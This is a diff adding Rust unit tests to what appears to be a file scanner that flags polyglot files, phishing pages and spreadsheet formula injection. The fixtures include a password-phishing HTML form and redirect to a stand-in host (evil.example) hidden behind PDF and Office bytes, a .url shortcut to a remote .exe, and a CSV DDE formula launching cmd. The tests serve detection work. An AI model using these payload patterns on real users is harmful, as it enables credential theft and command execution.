@@ -166,3 +166,90 @@ fn a_document_that_an_archive_holds_unpacked_is_no_trick() {
     // One that is no member is a trick still.
     assert!(check(&stored("a.bin", &[b"%PDF-1.7 x", document].concat())).1);
 }
+
+/// Opens a file under a name.
+fn named(name: &str, bytes: &[u8]) -> scan::content::Content {
+    let part = crate::request::Part {
+        place: "1".to_owned(),
+        names: vec![name.to_owned()],
+        declared: "application/octet-stream".to_owned(),
+        bytes: bytes::Bytes::copy_from_slice(bytes),
+        ..Default::default()
+    };
+    let request = crate::request::Request { parts: vec![part], ..Default::default() };
+    crate::unpack::unpack(&request, &mut crate::budget::Budget::new(roomy()))
+}
+
+const BINARIES: [&[u8]; 12] = [
+    sample!("../pdf/libreoffice.pdf"),
+    sample!("../office/lo.docx"),
+    sample!("../office/lo.odt"),
+    sample!("../office/lo.doc"),
+    sample!("../office/lo.xls"),
+    sample!("../office/lo.rtf"),
+    sample!("../small/clean.one"),
+    sample!("../small/winmail.dat"),
+    sample!("../small/opaque.p7m"),
+    sample!("solid.7z"),
+    sample!("v50-stored.rar"),
+    sample!("hello.txt.gz"),
+];
+
+#[test]
+fn a_page_by_its_name_behind_any_bytes() {
+    let page = b"--><form action='http://evil.example/hp'><input type=password></form><script>location='http://evil.example/hp'</script>";
+    for front in BINARIES {
+        for (name, around) in
+            [("a.html", b"".as_slice()), ("b.HTM ", b"<!--"), ("c.hta", b"<html><!--"), ("d.svg", b"")]
+        {
+            let bytes = [around, front, page].concat();
+            let archive = {
+                let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
+                writer.start_file(name, SimpleFileOptions::default()).unwrap();
+                writer.write_all(&bytes).unwrap();
+                writer.finish().unwrap().into_inner()
+            };
+            for (content, level) in [(named(name, &bytes), "alone"), (named("a.zip", &archive), "packed")] {
+                let item = content.items.iter().find(|item| item.names.iter().any(|own| own == name)).unwrap();
+                for mark in ["script", "password_field"] {
+                    assert!(item.marks.iter().any(|own| own == mark), "{name} {level} {} {:?}", item.kind, item.marks);
+                }
+                let links = item.links.iter().any(|link| link.target.starts_with("http://evil.example/"));
+                assert!(links, "{name} {level} {} {:?}", item.kind, item.links);
+                let is_told = item.marks.iter().any(|own| own == "polyglot" || own == "type_conflict");
+                let is_page = matches!(item.kind.as_str(), "html" | "hta" | "xhtml" | "svg" | "unknown" | "text");
+                assert!(is_told || is_page, "{name} {level} {} {:?}", item.kind, item.marks);
+            }
+        }
+    }
+}
+
+#[test]
+fn settings_and_tables_by_their_name_behind_any_bytes() {
+    for front in [sample!("../pdf/libreoffice.pdf"), sample!("../office/lo.doc")] {
+        let shortcut =
+            named("a.url", &[front, b"\r\n[InternetShortcut]\r\nURL=file://evil.example/s/a.exe\r\n"].concat());
+        assert!(
+            shortcut.items[0].links.iter().any(|link| link.target.contains("evil.example")),
+            "{:?}",
+            shortcut.items[0]
+        );
+        let table = named("a.csv", &[front, b"\r\n=cmd|'/c calc'!A1\r\n"].concat());
+        assert!(table.items[0].marks.contains(&"dde".to_owned()), "{:?}", table.items[0].marks);
+    }
+}
+
+#[test]
+fn a_page_in_a_document_that_is_called_one_is_no_page() {
+    // A manual about pages keeps the words of one.
+    let pdf = b"%PDF-1.4\n1 0 obj\n<</Length 40>>\nstream\nBT (<script>alert(1)</script> is a tag) Tj ET\nendstream\nendobj\n\
+        trailer\n<</Root 1 0 R>>\n%%EOF\n";
+    for name in ["manual.pdf", "page.html.pdf", "manual"] {
+        let content = named(name, pdf);
+        let marks = &content.items[0].marks;
+        assert!(
+            !marks.iter().any(|mark| ["script", "polyglot", "type_conflict"].contains(&mark.as_str())),
+            "{name} {marks:?}"
+        );
+    }
+}
